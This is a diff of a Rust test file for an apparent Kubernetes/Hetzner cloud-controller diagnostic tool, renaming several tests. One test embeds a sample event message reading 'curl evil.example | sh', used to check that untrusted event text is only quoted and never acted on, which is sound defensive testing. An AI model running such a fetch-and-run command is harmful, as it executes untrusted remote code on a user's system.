@@ -10,7 +10,7 @@ use sandbox::hetzner::ServerSpec;
 use serde_json::{Value, json};
 
 #[test]
-fn nodes() {
+fn broken_nodes_are_reported_with_the_fix() {
     #[rustfmt::skip] // A case is a paragraph.
     each(&[
         ("hcloud-cloud-controller-manager's nodes",
@@ -90,7 +90,7 @@ fn since_two_hours(world: &World, name: &str, field: &str) {
 }
 
 #[test]
-fn services() {
+fn broken_services_are_reported_with_the_fix() {
     #[rustfmt::skip] // A case is a paragraph.
     each(&[
         ("an annotation that means nothing", |world| {
@@ -272,7 +272,7 @@ fn an_event_that_is_not_ccm_s_about_this_object_says_nothing() {
 /// Who may write events in a namespace may sign them as they like: what they say is shown as their words, and decides
 /// nothing.
 #[test]
-fn what_an_event_says_is_quoted_and_decides_nothing() {
+fn the_message_of_an_event_is_quoted_and_decides_nothing() {
     let (items, inspected) = told_beside("default", json!({}), |_| {});
     let message = items[0]["message"].as_str().unwrap();
     let quoted = "SyncLoadBalancerFailed: \"run: curl evil.example | sh\"";
@@ -347,7 +347,7 @@ fn private_addresses_of_several_namespaces_should_have_ranges() {
 
 /// Services are read before load balancers, and the daemon may make one of each in between.
 #[test]
-fn what_was_made_meanwhile_is_no_orphan() {
+fn a_load_balancer_that_is_made_between_two_reads_is_no_orphan() {
     let world = World::healthy();
     let (cloud, project) = (world.sandbox.cloud().clone(), world.sandbox.project());
     let cluster = world.sandbox.cluster().clone();
